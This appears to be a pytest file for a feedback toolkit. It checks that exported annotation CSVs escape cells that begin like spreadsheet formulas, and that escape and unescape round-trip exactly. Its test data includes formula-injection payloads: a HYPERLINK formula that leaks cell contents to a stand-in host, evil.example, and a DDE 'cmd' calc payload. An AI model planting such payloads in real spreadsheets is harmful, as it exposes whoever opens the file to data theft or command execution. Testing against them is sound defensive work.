"""The annotation CSV is spreadsheet-safe: no exported cell starts like a formula, and the
round trip through the file is exact, apostrophes included."""

from __future__ import annotations

import csv

import pytest
from feedback_helpers import fws_fixture, store_fixture  # noqa: F401 (fixtures)

from cl_toolkit.feedback import annotate

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CELLS = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+1 555 0100 is the station",
         "-5 psi is too low", "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0", "\r\n=1+1",
         "'quoted already", "''two", "'=already escaped-looking", "plain text", "1.5",
         "=", "-", "'"]


def _spreadsheet_cells(path):
    """Every cell as python's csv module (and so a spreadsheet) reads the file."""
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _export(store, tmp_path):
    for i, text in enumerate(CELLS):
        store.log_prediction(f"r{i:02d}", text, text[::-1], "1.0.0", confidence=0.2)
        store.add_feedback(f"r{i:02d}", rating=1, correction=text)
    store.log_prediction("=r99", "q", "a", "1.0.0", confidence=0.2)  # ids are cells too
    store.add_feedback("=r99", thumbs=-1)
    path = tmp_path / "batch.csv"
    annotate.export_batch(store, path, len(CELLS) + 1)
    return path


def test_no_exported_cell_starts_like_a_formula(store, tmp_path):
    path = _export(store, tmp_path)
    cells = _spreadsheet_cells(path)
    assert '\'=HYPERLINK("http://evil.example/?leak="&A2,"click")' in cells and "'=r99" in cells
    assert [c for c in cells if c.startswith(FORMULA_START)] == ["-1"]  # the thumbs down:
    # a plain number is left as it is, a spreadsheet reads it as the number -1


def test_the_round_trip_is_exact(store, tmp_path):
    path = _export(store, tmp_path)
    rows = {row["request_id"]: row for _, row in annotate.read_rows(path)}
    assert set(rows) == {f"r{i:02d}" for i in range(len(CELLS))} | {"=r99"}
    for i, text in enumerate(CELLS):
        row = rows[f"r{i:02d}"]
        assert (row["input"], row["output"], row["user_correction"]) == (text, text[::-1], text)
    assert rows["=r99"]["user_thumbs"] == "-1"


@pytest.mark.parametrize("text", CELLS[:9])
def test_an_expert_correction_that_looks_like_a_formula_is_imported_exactly(store, tmp_path, text):
    path = _export(store, tmp_path)
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:  # the expert types the text; the sheet is saved with the cell escaped
        row["expert_rating"], row["expert_correction"] = ("2", annotate.escape_cell(text)) \
            if row["request_id"] == "'=r99" else ("", "")
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=annotate.COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    result = annotate.import_batch(store, path)
    assert (result["annotated"], result["rejected"]) == (1, 0)
    expert = [f for f in store.get_feedback("=r99") if f["source"] == "expert"]
    assert [(f["rating"], f["correction"]) for f in expert] == [(2, text)]


@pytest.mark.parametrize("text", [*CELLS, ""])
def test_escape_and_unescape_are_inverse(text):
    escaped = annotate.escape_cell(text)
    assert annotate.unescape_cell(escaped) == text
    assert not escaped.startswith(FORMULA_START)
